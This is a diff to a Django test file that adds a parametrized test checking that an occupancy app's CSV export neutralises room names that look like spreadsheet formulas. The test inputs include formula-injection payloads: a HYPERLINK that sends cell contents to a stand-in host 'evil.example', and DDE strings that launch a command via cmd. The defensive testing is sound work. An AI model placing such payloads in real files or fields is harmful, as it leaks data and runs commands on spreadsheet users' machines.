@@ -11,7 +11,7 @@ import requests
 import time_machine
 from django.urls import reverse
 
-from tests.occupancy.conftest import FLOOR_1, FLOOR_2, ROOM_B, fake_value
+from tests.occupancy.conftest import BUILDING, FLOOR_1, FLOOR_2, ROOM_B, fake_value
 
 pytestmark = pytest.mark.django_db
 
@@ -367,3 +367,32 @@ def test_with_no_figures_at_all_the_csv_is_unavailable(manager_client, fake_butl
 
     assert download.status_code == 503
     assert download["Retry-After"] == "60"
+
+
+@pytest.mark.parametrize(
+    "room_name",
+    [
+        '=HYPERLINK("https://evil.example/?leak="&A2,"Meeting room")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\tMeeting room",
+        "\rMeeting room",
+    ],
+)
+def test_the_csv_keeps_room_names_that_look_like_formulas_as_text(
+    manager_client, fake_butlr, monkeypatch, room_name
+):
+    room = next(room for room in BUILDING["floors"][0]["rooms"] if room["id"] == ROOM_B)
+    monkeypatch.setitem(room, "name", room_name)
+
+    with time_machine.travel(MOMENT, tick=False):
+        download = manager_client.get(CSV_URL + "?range=24h")
+
+    header, *rows = list(csv.reader(io.StringIO(download.content.decode(), newline="")))
+    assert f"'{room_name} mean" in header
+    assert f"'{room_name} max" in header
+    assert "Ground floor (whole floor) mean" in header
+    # The figures stay plain numbers that a spreadsheet adds up.
+    assert all(float(value) >= 0 for row in rows for value in row[1:] if value)
+    assert not any(value.startswith("'") for row in rows for value in row)
